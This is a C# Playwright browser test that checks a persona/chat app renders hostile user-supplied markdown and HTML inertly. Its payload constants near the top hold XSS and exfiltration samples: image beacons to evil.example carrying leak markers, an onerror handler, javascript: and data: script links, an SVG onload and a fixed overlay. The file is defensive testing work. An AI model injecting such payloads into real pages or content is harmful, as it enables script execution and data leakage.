using static Microsoft.Playwright.Assertions;

namespace PersonaExplorer.BrowserTests;

/// <summary>
/// Hostile markdown and HTML in a profile concept, a need and the chat request flows into the answer, the needs and
/// the solution cards (the offline designer copies concept text into cards). Everything must stay inert: nothing loads
/// from another host (the network is watched), no script runs, no style or overlay is applied.
/// </summary>
[Collection(BrowserCollection.Name)]
public sealed class HostileContentBrowserTests(BrowserFixture fixture, ITestOutputHelper output) : BrowserTest(fixture, output)
{
    // The image payload from the issue (same host, other port) plus a foreign host, raw HTML with a handler.
    private const string ConceptPayload =
        "loves trams ![t](http://127.0.0.1:9/x.png?d=leak-concept) <img src=https://evil.example/i.png?d=leak-html onerror=window.__pwned=1>";
    private const string NeedPayload =
        "[map](javascript:window.__pwned=2) ![o](data:image/svg+xml,%3Csvg%20onload=window.__pwned=3%3E) <div style=\"position:fixed;inset:0\">leak-overlay</div>";
    private const string RequestText =
        "Plan a 3-day trip to Lisbon ![x](https://evil.example/chat.png?d=leak-chat) [a](data:text/html,<script>window.__pwned=4</script>)";

    [Fact]
    public Task Hostile_concept_need_and_request_text_renders_inert_with_no_request_to_another_host() => StepsAsync(async () =>
    {
        var leaks = new List<string>();
        Page.Request += (_, r) => { if (r.Url.Contains("leak", StringComparison.Ordinal) || r.Url.Contains(":9/", StringComparison.Ordinal)) lock (leaks) leaks.Add(r.Url); };

        await OpenAsync("/");
        await Ui.AddConceptAsync(ConceptPayload);
        await Ui.CloseProfileAsync();

        await Ui.AskAsync(RequestText);
        foreach (var agent in new[] { "needs", "planner", "solutions", "ranker" })
            await Expect(Ui.AgentStatus(agent)).ToHaveAttributeAsync("data-state", "done");
        await Expect(Ui.SolutionCards).Not.ToHaveCountAsync(0);

        await Ui.TextInput("need-add-text").FillAsync(NeedPayload);
        await Page.GetByTestId("need-add").ClickAsync();
        await Expect(Ui.NeedItems.Filter(new() { HasText = "leak-overlay" })).ToHaveCountAsync(1);

        // The hostile text is shown as text (needs and concepts literally; markdown as alt text plus a link).
        await Expect(Ui.NeedItems.Filter(new() { HasText = NeedPayload })).ToHaveCountAsync(1);
        await Ui.OpenProfileAsync();
        await Expect(Ui.Concept(ConceptPayload)).ToHaveCountAsync(1);
        await ScreenshotAsync("hostile-content-inert", fullPage: true);

        var report = await Page.EvaluateAsync<string[]>("""
            () => {
              const bad = [];
              const origin = location.origin;
              for (const img of document.querySelectorAll('img, image, video, audio, source, iframe, object, embed'))
                if (!(img.getAttribute('src') ?? '').startsWith('data:') && !(img.src ?? '').startsWith(origin)) bad.push('loading element: ' + img.outerHTML);
              for (const a of document.querySelectorAll('a[href]'))
                if (/^\s*(javascript|data|vbscript):/i.test(a.getAttribute('href'))) bad.push('script link: ' + a.outerHTML);
              for (const el of document.querySelectorAll('.markdown *, [data-testid=need-item] *, [data-testid=concept-item] *'))
                for (const attr of el.getAttributeNames())
                  if (/^on/i.test(attr) || (el.closest('.markdown') && (attr === 'style' || attr === 'class'))) bad.push('attribute ' + attr + ' on ' + el.outerHTML.slice(0, 120));
              if (window.__pwned !== undefined) bad.push('script ran: ' + window.__pwned);
              const overlay = [...document.querySelectorAll('body *')].find(e => e.textContent === 'leak-overlay' && getComputedStyle(e).position === 'fixed');
              if (overlay) bad.push('overlay: ' + overlay.outerHTML);
              return bad;
            }
            """);
        Assert.Empty(report);

        // Cards and the answer carry the concept (or the request) as text; an image's address is a plain link at most.
        var markdownText = string.Join("\n", await Page.Locator(".markdown").AllInnerTextsAsync());
        Output.WriteLine(markdownText);
        lock (leaks) Assert.Empty(leaks);
        Assert.Empty(ForeignRequests);
    });
}
